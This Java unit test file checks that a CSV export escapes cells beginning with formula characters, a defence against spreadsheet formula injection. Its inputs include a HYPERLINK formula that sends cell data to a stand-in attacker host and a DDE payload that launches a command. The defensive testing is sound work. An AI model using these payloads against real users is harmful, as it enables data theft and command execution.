package io.slaflow.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A text cell that starts like a spreadsheet formula comes out as text: a single quote first, inside the field's
 * quotes (OWASP, "CSV Injection"). Figures stay figures.
 */
class CsvTest {

  @Test
  void anEqualsSignIsDefused() {
    assertThat(Csv.field("=1+2")).isEqualTo("\"'=1+2\"");
  }

  @Test
  void aPlusSignIsDefused() {
    assertThat(Csv.field("+1+2")).isEqualTo("\"'+1+2\"");
  }

  @Test
  void aMinusSignIsDefused() {
    assertThat(Csv.field("-1+2")).isEqualTo("\"'-1+2\"");
  }

  @Test
  void anAtSignIsDefused() {
    assertThat(Csv.field("@SUM(A1:A9)")).isEqualTo("\"'@SUM(A1:A9)\"");
  }

  @Test
  void aTabIsDefused() {
    assertThat(Csv.field("\t=1+2")).isEqualTo("\"'\t=1+2\"");
  }

  @Test
  void aCarriageReturnIsDefusedAndTheFieldStaysQuoted() {
    assertThat(Csv.field("\r=1+2")).isEqualTo("\"'\r=1+2\"");
  }

  @Test
  void quotesInADefusedCellAreStillDoubled() {
    assertThat(Csv.field("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Open\"\")\"");
  }

  @Test
  void textThatOnlyHoldsAFormulaCharacterLaterIsLeftAlone() {
    assertThat(Csv.field("ben.keller")).isEqualTo("ben.keller");
    assertThat(Csv.field("team-berlin")).isEqualTo("team-berlin");
    assertThat(Csv.field("a=b")).isEqualTo("a=b");
    assertThat(Csv.field("partner, \"EU\"")).isEqualTo("\"partner, \"\"EU\"\"\"");
    assertThat(Csv.field("")).isEqualTo("");
    assertThat(Csv.field(null)).isEqualTo("");
  }

  @Test
  void aNegativeFigureInANumericColumnStaysANumberWhileTheTextColumnsAreDefused() {
    BreachList.Row row = new BreachList.Row("lead-routing", "first-contact", "-42", "=cmd|' /C calc'!A0",
        "@team", Instant.parse("2026-03-02T08:00:00Z"), Instant.parse("2026-03-02T10:00:00Z"), -30, 1, 2, null,
        "Lead Jane Doe", "Jane");

    assertThat(Csv.breaches(List.of(row))).isEqualTo("unit,stage,recordId,owner,team,dueAt,breachedAt,pausedSeconds,"
        + "reassignments,escalationLevel,cockpitLink\r\n"
        + "lead-routing,first-contact,\"'-42\",\"'=cmd|' /C calc'!A0\",\"'@team\",2026-03-02T08:00:00Z,"
        + "2026-03-02T10:00:00Z,-30,1,2,\r\n");
  }
}
